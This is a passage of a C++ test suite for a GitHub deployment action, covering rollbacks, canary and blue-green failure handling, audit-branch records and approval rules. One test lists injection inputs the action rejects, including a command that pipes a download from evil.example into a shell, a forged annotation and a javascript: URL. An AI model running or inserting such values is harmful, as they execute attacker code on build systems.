  CHECK(audit_record(files[1])["prev_hash"] == audit_record(files[0])["hash"]);
  CHECK(audit_record(files[1])["seq"] == 1);

  // frank (maintain) may roll back within the window: no approvals asked for v1.1.0 again.
  auto env = world.env("refs/tags/v1.2.0", "frank", "rollback");
  env["INPUT_VERSION"] = "v1.1.0";
  env["INPUT_REASON"] = "errors after v1.2.0";
  auto rollback = run_action(env);
  INFO(rollback.output);
  REQUIRE(rollback.exit_code == 0);
  CHECK(world.service->get("/version") == "v1.1.0");
  files.push_back(world.outputs()["audit-file"]);
  json record = audit_record(files[2]);
  CHECK(record["kind"] == "rollback");
  CHECK(record["reason"] == "errors after v1.2.0");
  CHECK(record["seq"] == 2);

  std::vector<std::string> args = {"verify-audit"};
  args.insert(args.end(), files.begin(), files.end());
  auto verify = deploy::test::run_action(args);
  CHECK_MESSAGE(verify.exit_code == 0, verify.output);

  // deploy-bot, named in rollback.allowed, dispatched this one after checking who asked: no
  // approvals; someone the policy does not admit is refused.
  auto by_bot = world.env("refs/heads/main", "deploy-bot[bot]", "rollback");
  by_bot["INPUT_VERSION"] = "v1.2.0";
  auto bot_run = run_action(by_bot);
  CHECK_MESSAGE(bot_run.exit_code == 0, bot_run.output);
  CHECK(world.service->get("/version") == "v1.2.0");
  auto by_mallory = world.env("refs/heads/main", "mallory", "rollback");
  by_mallory["INPUT_VERSION"] = "v1.1.0";
  auto refused_mallory = run_action(by_mallory);
  CHECK(refused_mallory.exit_code == 1);
  CHECK(contains(refused_mallory.output, "FAIL  rollback"));

  // A rollback to a version that never went live is refused before anything runs.
  auto never = world.env("refs/tags/v1.2.0", "frank", "rollback");
  never["INPUT_VERSION"] = "v1.0.0";
  auto refused = run_action(never);
  CHECK(refused.exit_code == 1);
  CHECK_MESSAGE(contains(refused.output, "1.0.0 never went live"), refused.output);
}

// --- issue 11: the safety net, each finding reproduced from outside --------------------------

namespace {

// The seed for a release of v1.2.0 over v1.1.0 live, approved.
json release_seed() {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_live_deployment(seed, repo, "v1.1.0");
  add_tracking_issue(seed, repo, "v1.2.0", approvals({"erin", "frank"}));
  return seed;
}

const char* kApprovals = R"Y(
    approvals: { required: 2, from: ["@acme/release-managers", write] }
    rollback: { window: 24h, allowed: [maintain] }
)Y";

int count_lines_starting(const std::string& text, const std::string& prefix) {
  int n = 0;
  std::istringstream lines(text);
  for (std::string line; std::getline(lines, line);) n += line.rfind(prefix, 0) == 0 ? 1 : 0;
  return n;
}

}  // namespace

TEST_CASE("finding 1: a canary whose every health round fails is rolled back, never reported deployed") {
  World world(release_seed());
  std::ofstream(world.state / "version") << "v1.1.0";
  std::ofstream(world.state / "broken") << "v1.2.0\n";
  // Canary 5/25/50 with 1s pauses, a final 100 % step without pause, interval 1s, failure_limit 2:
  // no single step has two rounds, so a count restarting at each step never reached the limit.
  world.use_config(std::string(R"Y(version: 1
environments:
  production:
    on: { tags: ["v*"] })Y") +
                   kApprovals + R"Y(    strategy:
      type: canary
      steps:
        - { traffic: 5, pause: 1s }
        - { traffic: 25, pause: 1s }
        - { traffic: 50, pause: 1s }
        - { traffic: 100 }
    analysis:
      interval: 1s
      failure_limit: 2
      checks:
        - name: health
          http: { url: "{URL}/healthz" }
stages:
  - name: deploy
    traffic: true
    run: |
      echo "$DEPLOY_VERSION $DEPLOY_TRAFFIC" >> {STATE}/steps
      printf '%s' "$DEPLOY_VERSION" > {STATE}/version
rollback:
  run: |
    echo "rollback $DEPLOY_VERSION from $DEPLOY_ROLLBACK_FROM" >> {STATE}/steps
    printf '%s' "$DEPLOY_VERSION" > {STATE}/version
)Y");
  auto run = run_action(world.env("refs/tags/v1.2.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  auto outputs = world.outputs();
  CHECK(outputs["status"] == "rolled_back");
  CHECK(world.service->get("/version") == "v1.1.0");
  // It stopped at the second failed round, at 25 %: it never went on to 50 or 100.
  CHECK(read_file(world.state / "steps") == "v1.2.0 5\nv1.2.0 25\nrollback v1.1.0 from v1.2.0\n");
  auto state = world.repo_state();
  CHECK(state["deployments"].back()["statuses"].back()["state"] == "failure");
  CHECK(state["deployments"][0]["statuses"].back()["state"] == "success");  // the old one stays live
  // Finding 7: the failure is annotated once.
  CHECK(count_lines_starting(run.output, "::error::") == 1);
}

TEST_CASE("finding 2: the smallest documented file, rolling with a dead health port, is rolled back") {
  World world(release_seed());
  std::ofstream(world.state / "version") << "v1.1.0";
  world.use_config(std::string(R"Y(version: 1
environments:
  production:
    on: { tags: ["v*"] })Y") +
                   kApprovals + R"Y(    analysis:
      interval: 1s
      checks:
        - name: health
          http: { url: "http://127.0.0.1:9/healthz" }
stages:
  - name: deploy
    run: |
      echo "deploy $DEPLOY_VERSION $DEPLOY_PHASE" >> {STATE}/steps
      printf '%s' "$DEPLOY_VERSION" > {STATE}/version
)Y");
  auto run = run_action(world.env("refs/tags/v1.2.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  auto outputs = world.outputs();
  CHECK(outputs["status"] == "rollback_failed");  // the health port is dead for the old version too
  // No rollback.run: the deploy stage put the previous version back, at once.
  CHECK(read_file(world.state / "steps") == "deploy v1.2.0 deploy\ndeploy v1.1.0 rollback\n");
  CHECK(world.service->get("/version") == "v1.1.0");
  CHECK_FALSE(contains(run.output, "nothing was deployed"));
  CHECK(world.repo_state()["deployments"].back()["statuses"].back()["state"] == "failure");
}

TEST_CASE("finding 2: a smoke stage failing after the deploy stage rolls back") {
  World world(release_seed());
  std::ofstream(world.state / "version") << "v1.1.0";
  world.use_config(std::string(R"Y(version: 1
environments:
  production:
    on: { tags: ["v*"] })Y") +
                   kApprovals + R"Y(stages:
  - name: migrate
    run: echo "migrate $DEPLOY_PHASE" >> {STATE}/steps
  - name: deploy
    run: |
      echo "deploy $DEPLOY_VERSION" >> {STATE}/steps
      printf '%s' "$DEPLOY_VERSION" > {STATE}/version
  - name: smoke
    run: echo "smoke $DEPLOY_PHASE" >> {STATE}/steps; exit 1
rollback:
  run: |
    echo "rollback $DEPLOY_VERSION" >> {STATE}/steps
    printf '%s' "$DEPLOY_VERSION" > {STATE}/version
)Y");
  auto run = run_action(world.env("refs/tags/v1.2.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  CHECK(world.outputs()["status"] == "rolled_back");
  CHECK(read_file(world.state / "steps") ==
        "migrate before_deploy\ndeploy v1.2.0\nsmoke after_deploy\nrollback v1.1.0\n");
  CHECK(world.service->get("/version") == "v1.1.0");
  CHECK_FALSE(contains(run.output, "nothing was deployed"));
  CHECK(count_lines_starting(run.output, "::error::") == 1);
}

TEST_CASE("finding 4: mode rollback goes straight to the target, with rollback.run and no canary pauses") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}), 10);
  add_tracking_issue(seed, repo, "v1.2.0", approvals({"erin", "frank"}), 11);
  World world(seed);
  const std::string config = std::string(R"Y(version: 1
environments:
  production:
    on: { tags: ["v*"] })Y") +
                             kApprovals + R"Y(    strategy:
      type: canary
      steps:
        - { traffic: 50, pause: PAUSE }
        - { traffic: 100 }
    analysis:
      interval: 1s
      checks:
        - name: health
          http: { url: "{URL}/healthz" }
stages:
  - name: backup
    run: echo "backup" >> {STATE}/steps
  - name: deploy
    traffic: true
    run: |
      echo "deploy $DEPLOY_VERSION $DEPLOY_TRAFFIC" >> {STATE}/steps
      printf '%s' "$DEPLOY_VERSION" > {STATE}/version
rollback:
  run: |
    echo "rollback.run $DEPLOY_VERSION from $DEPLOY_ROLLBACK_FROM $DEPLOY_PHASE" >> {STATE}/steps
    printf '%s' "$DEPLOY_VERSION" > {STATE}/version
)Y";
  auto with_pause = [&](const std::string& pause) {
    std::string text = config;
    text.replace(text.find("PAUSE"), 5, pause);
    return text;
  };
  world.use_config(with_pause("1s"));
  for (const char* tag : {"v1.1.0", "v1.2.0"}) {
    auto run = run_action(world.env(std::string("refs/tags/") + tag));
    REQUIRE_MESSAGE(run.exit_code == 0, run.output);
  }
  fs::remove(world.state / "steps");
  // A production-like pause of 10 minutes: a rollback replaying the canary would hit the test's
  // timeout; one that goes straight to the target does not wait at all.
  world.use_config(with_pause("10m"));
  auto env = world.env("refs/tags/v1.2.0", "frank", "rollback");
  env["INPUT_VERSION"] = "v1.1.0";
  auto rollback = run_action(env);
  INFO(rollback.output);
  REQUIRE(rollback.exit_code == 0);
  CHECK(read_file(world.state / "steps") == "rollback.run v1.1.0 from v1.2.0 rollback\n");
  CHECK(world.service->get("/version") == "v1.1.0");
  CHECK(world.outputs()["status"] == "succeeded");
}

namespace {

// Blue-green: one demo-service serving the live colour, one the idle colour (the preview URL), on
// the same state folder; `switch` writes live-color.
struct BlueGreen {
  World world{release_seed()};
  std::unique_ptr<DemoService> live;
  std::unique_ptr<DemoService> idle;

  explicit BlueGreen(const std::string& extra_check = "") {
    fs::create_directories(world.state / "blue");
    fs::create_directories(world.state / "green");
    std::ofstream(world.state / "blue" / "version") << "v1.1.0";
    live = std::make_unique<DemoService>(world.state, "live");
    idle = std::make_unique<DemoService>(world.state, "idle");
    std::string text = std::string(R"Y(version: 1
environments:
  production:
    on: { tags: ["v*"] })Y") +
                       kApprovals + R"Y(    strategy:
      type: blue-green
      switch: |
        echo "switch $DEPLOY_COLOR $DEPLOY_PHASE" >> {STATE}/steps
        printf '%s' "$DEPLOY_COLOR" > {STATE}/live-color
      preview_url: ")Y" +
                       idle->url() + R"Y("
    analysis:
      interval: 1s
      checks:
        - name: health
          http: { url: ")Y" +
                       live->url() + R"Y(/healthz" }
)Y" + extra_check + R"Y(stages:
  - name: deploy
    run: |
      echo "deploy $DEPLOY_VERSION $DEPLOY_COLOR" >> {STATE}/steps
      printf '%s' "$DEPLOY_VERSION" > {STATE}/$DEPLOY_COLOR/version
)Y";
    world.use_config(text);
  }
};

}  // namespace

TEST_CASE("finding 5: blue-green deploys beside the live colour, checks the preview, switches") {
  BlueGreen bg;
  auto run = run_action(bg.world.env("refs/tags/v1.2.0"));
  INFO(run.output);
  REQUIRE(run.exit_code == 0);
  CHECK(read_file(bg.world.state / "steps") == "deploy v1.2.0 green\nswitch green switch\n");
  CHECK(bg.live->get("/version") == "v1.2.0");
  CHECK(bg.idle->get("/version") == "v1.1.0");  // the old colour stays, ready to switch back
  // The colour is recorded on the deployment, so the next deploy goes to blue.
  CHECK(bg.world.repo_state()["deployments"].back()["payload"]["deploy_action"]["color"] == "green");
}

TEST_CASE("finding 5: blue-green: a broken release fails on the preview and users never see it") {
  BlueGreen bg;
  std::ofstream(bg.world.state / "broken") << "v1.2.0\n";
  auto run = run_action(bg.world.env("refs/tags/v1.2.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  CHECK(bg.world.outputs()["status"] == "failed");
  CHECK(read_file(bg.world.state / "steps") == "deploy v1.2.0 green\n");  // never switched
  CHECK(bg.live->get("/version") == "v1.1.0");
  CHECK(contains(run.output, "traffic was never switched"));
}

TEST_CASE("finding 5: blue-green: a failure after the switch switches straight back, without redeploying") {
  // A command check measures live traffic only: it is not run against the preview.
  // It fails while green serves: the new version is bad under real traffic only.
  BlueGreen bg(R"Y(        - name: live-errors
          command: { run: "test \"$(cat {STATE}/live-color)\" != green" }
)Y");
  auto run = run_action(bg.world.env("refs/tags/v1.2.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  CHECK(read_file(bg.world.state / "steps") == "deploy v1.2.0 green\nswitch green switch\nswitch blue rollback\n");
  CHECK(bg.live->get("/version") == "v1.1.0");
  CHECK(contains(run.output, "is serving again"));
}

TEST_CASE("two rollbacks in a row without a version: the second goes further back, never forward") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_replaced_deployment(seed, repo, "v1.0.0");
  add_replaced_deployment(seed, repo, "v1.1.0");
  add_live_deployment(seed, repo, "v1.2.0");
  repo_of(seed)["statuses"].push_back({{"sha", repo.sha["v1.0.0"]}, {"context", "build"}, {"state", "success"}});
  World world(seed, "1m", "0s");
  std::ofstream(world.state / "version") << "v1.2.0";

  // frank (maintain) rolls back without naming a version: v1.2.0 -> v1.1.0.
  auto first = run_action(world.env("refs/heads/main", "frank", "rollback"));
  INFO(first.output);
  REQUIRE(first.exit_code == 0);
  CHECK(world.outputs()["version"] == "v1.1.0");
  CHECK(world.service->get("/version") == "v1.1.0");

  // Again: v1.1.0 runs now (a new deployment). The deployment of v1.2.0 is the latest one before
  // it, but it is newer: the target is v1.0.0.
  auto second = run_action(world.env("refs/heads/main", "frank", "rollback"));
  INFO(second.output);
  REQUIRE(second.exit_code == 0);
  CHECK(world.outputs()["version"] == "v1.0.0");
  CHECK(world.outputs()["previous-version"] == "v1.1.0");
  CHECK(world.service->get("/version") == "v1.0.0");

  // Nothing older than v1.0.0 went live: refused, and nothing runs.
  auto third = run_action(world.env("refs/heads/main", "frank", "rollback"));
  INFO(third.output);
  CHECK(third.exit_code == 1);
  CHECK(contains(third.output, "no earlier successful deployment of an older version"));
  CHECK(world.outputs()["status"] == "refused");
  CHECK(world.service->get("/version") == "v1.0.0");

  // GitHub's view: the two rollbacks are the only new deployments, each replacing the one before.
  auto state = world.repo_state();
  REQUIRE(state["deployments"].size() == 5);
  CHECK(state["deployments"][3]["payload"]["deploy_action"]["version"] == "v1.1.0");
  CHECK(state["deployments"][4]["payload"]["deploy_action"]["version"] == "v1.0.0");
  CHECK(state["deployments"][4]["statuses"].back()["state"] == "success");
  CHECK(state["deployments"][3]["statuses"].back()["state"] == "inactive");
}

TEST_CASE("a rollback deploy-bot dispatched records who asked as requested_by; the actor stays the bot") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_replaced_deployment(seed, repo, "v1.1.0");
  add_live_deployment(seed, repo, "v1.2.0");
  World world(seed, "1m", "0s");
  std::ofstream(world.state / "version") << "v1.2.0";
  const std::string comment = "https://github.example/acme/app/issues/10#issuecomment-4242";

  // Untrusted inputs that are not a login or a request URL stop the run before anything happens.
  for (const auto& entry : std::vector<std::pair<std::string, std::string>>{
           {"INPUT_REQUESTED-BY", "alice; curl evil.example | sh"},
           {"INPUT_REQUESTED-BY", "alice\n::warning::forged"},
           {"INPUT_REQUEST-URL", "javascript:alert(1)"},
           {"INPUT_REQUEST-URL", "http://evil.example/acme/app/issues/10"}}) {
    // References, not a structured binding: clang 14 (clang-tidy) cannot capture one in CAPTURE's lambda.
    const std::string& input = entry.first;
    const std::string& value = entry.second;
    CAPTURE(value);
    auto env = world.env("refs/heads/main", "deploy-bot[bot]", "rollback");
    env[input] = value;
    auto refused = run_action(env);
    CHECK(refused.exit_code == 1);
    CHECK(contains(refused.output,
                   "input '" + std::string(input == "INPUT_REQUESTED-BY" ? "requested-by" : "request-url") + "'"));
    CHECK_FALSE(fs::exists(world.state / "steps"));
  }

  auto env = world.env("refs/heads/main", "deploy-bot[bot]", "rollback");
  env["GITHUB_EVENT_NAME"] = "workflow_dispatch";
  env["INPUT_REQUESTED-BY"] = "alice";
  env["INPUT_REQUEST-URL"] = comment;
  auto run = run_action(env);
  INFO(run.output);
  REQUIRE(run.exit_code == 0);
  CHECK(world.service->get("/version") == "v1.1.0");

  auto outputs = world.outputs();
  json record = audit_record(outputs["audit-file"]);
  CHECK(record["kind"] == "rollback");
  CHECK(record["actor"] == "deploy-bot[bot]");
  CHECK(record["requested_by"] == "alice");
  CHECK(record["request_url"] == comment);
  auto verify = deploy::test::run_action({"verify-audit", outputs["audit-file"]});
  CHECK_MESSAGE(verify.exit_code == 0, verify.output);
  CHECK(contains(world.summary(), "**Requested by:** @alice"));
  CHECK(contains(world.summary(), "[Request](" + comment + ")"));

  // A run nobody asked the bot for has neither field, as records written before them.
  auto by_frank = world.env("refs/heads/main", "frank", "rollback");
  by_frank["INPUT_VERSION"] = "v1.2.0";
  auto forward = run_action(by_frank);
  INFO(forward.output);
  REQUIRE(forward.exit_code == 0);
  const std::string second_file = world.outputs()["audit-file"];
  json second = audit_record(second_file);
  CHECK(second["actor"] == "frank");
  CHECK_FALSE(second.contains("requested_by"));
  CHECK_FALSE(second.contains("request_url"));
  auto chain = deploy::test::run_action({"verify-audit", outputs["audit-file"], second_file});
  CHECK_MESSAGE(chain.exit_code == 0, chain.output);
}

// --- issue 12: required checks read check runs, as branch protection does ----------------------

TEST_CASE("required checks: check runs from GitHub Actions count, newest per name, and failures block") {
  auto& repo = shared_repository();
  struct Case {
    const char* name;
    json runs;  // check runs on v1.1.0, oldest first
    int exit_code;
    const char* says;  // in the output
  };
  const json actions = {{"id", 15368}, {"slug", "github-actions"}, {"name", "GitHub Actions"}};
  const std::vector<Case> cases{
      {"a passing check run satisfies a required check no status reports",
       json::array({{{"name", "test"}, {"status", "completed"}, {"conclusion", "success"}, {"app", actions}}}), 0,
       "pass  required_checks"},
      {"skipped and neutral pass",
       json::array({{{"name", "test"}, {"status", "completed"}, {"conclusion", "skipped"}}}), 0,
       "pass  required_checks"},
      {"the newest run of a name decides: a re-run that failed blocks",
       json::array({{{"name", "test"}, {"status", "completed"}, {"conclusion", "success"}},
                    {{"name", "test"}, {"status", "completed"}, {"conclusion", "timed_out"}}}),
       1, "test"},
      {"a run still in progress is pending", json::array({{{"name", "test"}, {"status", "in_progress"}}}), 1,
       "pending"},
      {"cancelled fails", json::array({{{"name", "test"}, {"status", "completed"}, {"conclusion", "cancelled"}}}), 1,
       "FAIL  required_checks"},
      {"never reported", json::array(), 1, "missing"},
  };
  for (const auto& c : cases) {
    CAPTURE(c.name);
    json seed = base_seed(repo);
    add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}));
    for (auto run : c.runs) {
      run["head_sha"] = repo.sha["v1.1.0"];
      repo_of(seed)["check_runs"].push_back(run);
    }
    World world(seed, "1m", "0s");
    std::string text = read_file(world.config);
    text.replace(text.find("required_checks: [build]"), std::string("required_checks: [build]").size(),
                 "required_checks: [build, test]");
    std::ofstream(world.config) << text;
    auto run = run_action(world.env("refs/tags/v1.1.0"));
    INFO(run.output);
    CHECK(run.exit_code == c.exit_code);
    CHECK(contains(run.output, c.says));
  }
}

// --- issue 12, finding 7: records kept a year, on the audit branch ----------------------------

namespace {

// The config of deploy_yml with audit.branch set.
void keep_records_on_branch(World& world) {
  std::ofstream(world.config, std::ios::app) << "audit:\n  branch: deploy-audit\n";
}

json sim_commit(const json& repo_state, const std::string& sha) {
  for (const auto& c : repo_state["commits"]) {
    if (c["sha"] == sha) return c;
  }
  FAIL("no commit " << sha);
  return {};
}

deploy::test::ActionRun verify_from_github(World& world, std::vector<std::string> extra = {}) {
  std::vector<std::string> args = {"verify-audit", "--from-github", "--repo", "acme/app"};
  args.insert(args.end(), extra.begin(), extra.end());
  return deploy::test::run_action(args, {{"GITHUB_TOKEN", "tok-alice"}, {"GITHUB_API_URL", world.sim->base_url()}});
}

// Appends one file to the branch as another writer would (a fast-forward through the Git Data API,
// with the content inline so no blob request is made).
void append_file(World& world, const std::string& path, const std::string& content) {
  auto& sim = *world.sim;
  auto ref = json::parse(sim.api("GET", "/repos/acme/app/git/ref/heads/deploy-audit", "tok-alice").body);
  const std::string tip = ref["object"]["sha"];
  auto commit = json::parse(sim.api("GET", "/repos/acme/app/commits/" + tip, "tok-alice").body);
  auto tree =
      sim.api("POST", "/repos/acme/app/git/trees", "tok-alice",
              {{"base_tree", commit["commit"]["tree"]["sha"]},
               {"tree", json::array({{{"path", path}, {"mode", "100644"}, {"type", "blob"}, {"content", content}}})}});
  REQUIRE(tree.status == 201);
  auto created =
      sim.api("POST", "/repos/acme/app/git/commits", "tok-alice",
              {{"message", "by hand"}, {"tree", json::parse(tree.body)["sha"]}, {"parents", json::array({tip})}});
  REQUIRE(created.status == 201);
  auto moved = sim.api("PATCH", "/repos/acme/app/git/refs/heads/deploy-audit", "tok-alice",
                       {{"sha", json::parse(created.body)["sha"]}, {"force", false}});
  REQUIRE(moved.status == 200);
}

}  // namespace

TEST_CASE("finding 7: each deploy appends its record to the audit branch, one commit each, chained, never forced") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}), 10);
  add_tracking_issue(seed, repo, "v1.2.0", approvals({"erin", "frank"}), 11);
  World world(seed, "1m", "0s");
  keep_records_on_branch(world);
  std::vector<std::string> lines;
  for (const char* tag : {"v1.1.0", "v1.2.0"}) {
    auto run = run_action(world.env(std::string("refs/tags/") + tag));
    REQUIRE_MESSAGE(run.exit_code == 0, run.output);
    CHECK(contains(run.output, "audit record appended to branch deploy-audit"));
    lines.push_back(read_file(world.workspace / world.outputs()["audit-file"]));
  }

  json state = world.repo_state();
  const std::string tip = state["refs"]["refs/heads/deploy-audit"];
  json second = sim_commit(state, tip);
  REQUIRE(second["parents"].size() == 1);
  json first = sim_commit(state, second["parents"][0]);
  CHECK(first["parents"].empty());  // an orphan branch: nothing of main's history
  const json r0 = audit_record((world.temp.path() / "runner-temp/deploy-audit/production-000000.jsonl").string());
  const json r1 = audit_record((world.temp.path() / "runner-temp/deploy-audit/production-000001.jsonl").string());
  CHECK(r1["prev_hash"] == r0["hash"]);
  const std::string path0 = "records/production/000000-" + r0["hash"].get<std::string>() + ".json";
  const std::string path1 = "records/production/000001-" + r1["hash"].get<std::string>() + ".json";
  CHECK(first["files"] == json{{path0, lines[0]}});
  CHECK(second["files"] == json{{path1, lines[1]}});  // one record per commit, the first kept below it

  // Every ref update was a fast-forward request: never forced.
  int updates = 0;
  for (const auto& r : world.sim->requests()) {
    if (r["method"] == "PATCH" && r["path"] == "/repos/acme/app/git/refs/heads/deploy-audit") {
      ++updates;
      CHECK(r["body"]["force"] == false);
    }
  }
  CHECK(updates == 1);  // the first record created the branch

  SUBCASE("verify-audit --from-github passes on the intact branch") {
    auto verify = verify_from_github(world);
    CHECK_MESSAGE(verify.exit_code == 0, verify.output);
    CHECK(contains(verify.output,
                   "verified 2 records on branch deploy-audit (production), each matching its GitHub deployment"));
  }
  SUBCASE("a record altered on the branch is named") {
    json forged = r0;
    forged["actor"] = "mallory";
    append_file(world, path0, deploy::audit::to_jsonl_line(forged).value());
    auto verify = verify_from_github(world);
    CHECK(verify.exit_code == 1);
    CHECK_MESSAGE(contains(verify.output, path0 + ": hash_mismatch:"), verify.output);
  }
  SUBCASE("a GitHub deployment whose hash differs is named with the record") {
    const std::string deployment_id = r1["deployment_id"];
    auto status =
        world.sim->api("POST", "/repos/acme/app/deployments/" + deployment_id + "/statuses", "tok-alice",
                       {{"state", "success"}, {"description", "edited \u00b7 audit#1 " + std::string(64, 'a')}});
    REQUIRE(status.status == 201);
    auto verify = verify_from_github(world);
    CHECK(verify.exit_code == 1);
    CHECK_MESSAGE(contains(verify.output, path1 + ": deployment_hash_mismatch: GitHub deployment " + deployment_id),
                  verify.output);
  }
  SUBCASE("a record removed from the tail is reported through its deployment") {
    auto removed = world.sim->api(
        "POST", "/repos/acme/app/git/trees", "tok-alice",
        {{"tree", json::array({{{"path", path0}, {"mode", "100644"}, {"type", "blob"}, {"content", lines[0]}}})}});
    REQUIRE(removed.status == 201);
    auto commit = world.sim->api(
        "POST", "/repos/acme/app/git/commits", "tok-alice",
        {{"message", "drop the last"}, {"tree", json::parse(removed.body)["sha"]}, {"parents", json::array({tip})}});
    REQUIRE(commit.status == 201);
    REQUIRE(world.sim
                ->api("PATCH", "/repos/acme/app/git/refs/heads/deploy-audit", "tok-alice",
                      {{"sha", json::parse(commit.body)["sha"]}})
                .status == 200);
    auto verify = verify_from_github(world);
    CHECK(verify.exit_code == 1);
    CHECK_MESSAGE(contains(verify.output, ": record_missing: "), verify.output);
  }
}

TEST_CASE(
    "finding 7: a record appended by someone else meanwhile is kept: the action re-reads the tip and appends on it") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}), 10);
  add_tracking_issue(seed, repo, "v1.2.0", approvals({"erin", "frank"}), 11);
  World world(seed, "1m", "0s");
  keep_records_on_branch(world);
  auto first = run_action(world.env("refs/tags/v1.1.0"));
  REQUIRE_MESSAGE(first.exit_code == 0, first.output);

  // The second run reads the tip, then waits in its blob request while another writer appends. Its
  // run lock (refs/deploy-runs/production) is a blob too, written first: the delay goes on the
  // audit record's blob, so it is set once the lock is held (the record is written seconds later).
  auto env = world.env("refs/tags/v1.2.0");
  Run second;
  std::thread action([&] { second = run_action(env); });
  eventually([&] { return world.repo_state()["refs"].contains("refs/deploy-runs/production"); });
  world.sim->add_fault({{"method", "POST"}, {"path", "/repos/acme/app/git/blobs"}, {"delay_ms", 5000}, {"count", 1}});
  world.sim->clear_requests();
  bool tip_read = false;
  for (int i = 0; i < 20'000 && !tip_read; ++i) {
    for (const auto& r : world.sim->requests()) {
      if (r["method"] == "GET" && r["path"] == "/repos/acme/app/git/ref/heads/deploy-audit") tip_read = true;
    }
    if (!tip_read) std::this_thread::sleep_for(5ms);
  }
  CHECK(tip_read);
  append_file(world, "notes/other-writer.txt", "appended meanwhile\n");
  action.join();
  INFO(second.output);
  REQUIRE(second.exit_code == 0);
  CHECK(contains(second.output, "after 1 concurrent append(s)"));

  json state = world.repo_state();
  json tip = sim_commit(state, state["refs"]["refs/heads/deploy-audit"]);
  json middle = sim_commit(state, tip["parents"][0]);
  CHECK(middle["files"].contains("notes/other-writer.txt"));  // the other writer's commit is kept below ours
  json root = sim_commit(state, middle["parents"][0]);
  CHECK(root["parents"].empty());
  CHECK(tip["files"].size() == 1);
  int refused = 0;
  for (const auto& r : world.sim->requests()) {
    if (r["method"] == "PATCH" && r["path"] == "/repos/acme/app/git/refs/heads/deploy-audit" && r["status"] == 422)
      ++refused;
  }
  CHECK(refused == 1);  // the stale update was refused, not forced

  auto verify = verify_from_github(world);
  CHECK_MESSAGE(verify.exit_code == 0, verify.output);
}

// --- approval rules, /reject and freeze windows (issue 17) -------------------------------------

namespace {

// The test config with approvals.required replaced by `approvals` (lines under `approvals:`) and
// `extra` added to production (e.g. a freeze block, 4-space indented).
void use_control_config(World& world, const std::string& approvals, const std::string& extra = "") {
  std::string text = deploy_yml(world.state, world.service->url(), "1m", "0s");
  const std::string required = "      required: 2\n";
  text.replace(text.find(required), required.size(), approvals);
  const std::string after = "    reviewed_changes: { required_reviews: 1 }\n";
  text.replace(text.find(after), after.size(), after + extra);
  world.config = world.temp.write("deploy.yml", text);
}

// frank (maintain) is in @acme/sre besides erin's @acme/release-managers.
json control_seed(Repository& repo, json comments) {
  json seed = base_seed(repo);
  seed["organizations"][0]["teams"].push_back(
      {{"slug", "sre"}, {"members", {{"frank", "member"}}}, {"repositories", {{"acme/app", "write"}}}});
  add_tracking_issue(seed, repo, "v1.1.0", std::move(comments));
  return seed;
}

json comment(const char* user, const char* body) { return {{"user", user}, {"body", body}}; }

// approvals.from stays the test config's: @acme/release-managers or anyone with write.
const std::string kRules =
    "      rules:\n"
    "        - { name: sre, from: [\"@acme/sre\"], count: 1 }\n"
    "        - { name: release-managers, from: [\"@acme/release-managers\"], count: 1 }\n"
    "        - { name: total, count: 2 }\n";

}  // namespace

TEST_CASE("approval rules: every rule must hold; the log, summary and audit record show each rule's count") {
  auto& repo = shared_repository();
  SUBCASE("two approvals, but none from release-managers: refused, naming the rule") {
    World world(control_seed(repo, json::array({comment("frank", "/approve"), comment("carol", "/approve")})));
    use_control_config(world, kRules);
    auto run = run_action(world.env("refs/tags/v1.1.0"));
    INFO(run.output);
    CHECK(run.exit_code == 1);
    CHECK(contains(run.output, "FAIL  approvals"));
    CHECK(contains(run.output, "rules: sre 1/1, release-managers 0/1, total 2/2"));
    CHECK(contains(run.output, "rule release-managers: needs 1 more approval from @acme/release-managers"));
    CHECK(contains(run.output, "rule release-managers: 0/1 (not met)"));
    CHECK(contains(world.summary(), "release-managers 0/1"));
    CHECK_FALSE(fs::exists(world.state / "steps"));
    const json record = audit_record(world.outputs()["audit-file"]);
    REQUIRE(record["approval_rules"].size() == 3);
    CHECK(record["approval_rules"][0]["name"] == "sre");
    CHECK(record["approval_rules"][0]["approvers"] == json::array({"frank"}));
    CHECK(record["approval_rules"][1]["met"] == false);
    CHECK(record["approval_rules"][2]["approvers"].size() == 2);
  }
  SUBCASE("one from each team: every rule holds and the release deploys") {
    World world(control_seed(repo, json::array({comment("frank", "/approve"), comment("erin", "/approve")})));
    use_control_config(world, kRules);
    auto run = run_action(world.env("refs/tags/v1.1.0"));
    INFO(run.output);
    CHECK(run.exit_code == 0);
    CHECK(contains(run.output, "pass  approvals"));
    CHECK(world.outputs()["status"] == "succeeded");
    const json record = audit_record(world.outputs()["audit-file"]);
    CHECK(record["approval_rules"][1]["approvers"] == json::array({"erin"}));
  }
}

TEST_CASE("/reject blocks the release until the same person withdraws it") {
  auto& repo = shared_repository();
  const json approved = json::array({comment("erin", "/approve"), comment("frank", "/approve")});
  SUBCASE("a standing /reject refuses with who and why") {
    json comments = approved;
    comments.push_back(comment("carol", "/reject breaks billing"));
    comments.push_back(comment("frank", "/reject cancel"));  // not frank's to withdraw
    World world(control_seed(repo, comments));
    auto run = run_action(world.env("refs/tags/v1.1.0"));
    INFO(run.output);
    CHECK(run.exit_code == 1);
    CHECK(contains(run.output, "pass  approvals"));
    CHECK(contains(run.output, "FAIL  rejection"));
    CHECK(contains(run.output, "rejected by carol: \"breaks billing\""));
    CHECK(contains(run.output, "/reject not heard: frank"));
    CHECK_FALSE(fs::exists(world.state / "steps"));
    const json record = audit_record(world.outputs()["audit-file"]);
    CHECK(record["outcome"]["status"] == "refused");
    bool gate = false;
    for (const auto& g : record["gates"]) gate = gate || (g["name"] == "rejection" && g["reason"] == "rejected");
    CHECK(gate);
    REQUIRE(record["rejections"]["active"].size() == 1);
